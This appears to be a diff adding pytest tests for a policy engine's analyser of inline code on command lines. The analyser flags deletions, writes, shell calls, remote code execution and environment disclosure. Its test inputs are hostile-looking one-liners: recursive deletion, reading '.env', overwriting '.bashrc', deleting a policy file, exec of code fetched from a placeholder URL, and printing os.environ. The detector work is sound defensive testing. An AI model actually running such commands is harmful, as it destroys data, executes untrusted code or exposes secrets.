@@ -1,0 +1,52 @@
+"""Code on a command line: calls with literal words are read, calls with others are in doubt."""
+
+from __future__ import annotations
+
+import pytest
+
+from policy_engine.model.inline_code import analyse
+from policy_engine.model.scene import Scene
+from policy_engine.model.world import Virtual
+
+
+def _scene(code: str, name: str = "python") -> Scene:
+    world = Virtual()
+    scene = Scene(world.resolve("/workspace", None), world, name)
+    analyse(code, scene)
+    return scene
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        ("import shutil; shutil.rmtree('/x')", [("delete", "/x", True)]),
+        ("open('a', 'w').write('x')", [("write", "a", False)]),
+        ("print(open('.env').read())", [("read", ".env", False)]),
+        ("from pathlib import Path; Path('/x/.bashrc').write_text('x')", [("write", "/x/.bashrc", False)]),
+        ("import os; os.remove('.policy/' + 'main.policy')", [("delete", ".policy/main.policy", False)]),
+        ("print('rm -rf /')", []),
+    ],
+)
+def test_literal_paths_are_read(code: str, expected: list[tuple[str, str, bool]]) -> None:
+    assert [(path.access, path.text, path.recursive) for path in _scene(code).paths] == expected
+
+
+def test_lines_for_a_shell_are_handed_on() -> None:
+    assert _scene("import os; os.system('sudo ls')").lines == ["sudo ls"]
+    assert _scene("import subprocess; subprocess.run(['rm', '-rf', 'x'])").lines == ["rm -rf x"]
+    assert _scene("puts `ls`", "ruby").lines == ["ls"]
+
+
+def test_what_is_put_together_at_run_time_is_in_doubt() -> None:
+    assert "*" in _scene("import os; os.system(x)").doubts
+    assert [path.known for path in _scene("open(input(), 'w')").paths] == [False]
+
+
+def test_running_what_was_fetched_or_decoded_is_told() -> None:
+    assert "executes-remote" in _scene("import urllib.request as u; exec(u.urlopen('https://x.example').read())").words
+    assert "executes-remote" not in _scene("import base64; print(base64.b64decode('aGk='))").words
+
+
+def test_an_environment_is_told() -> None:
+    assert "discloses" in _scene("import os; print(os.environ)").words
+    assert "discloses" not in _scene("import os; print(os.environ.get('HOME'))").words
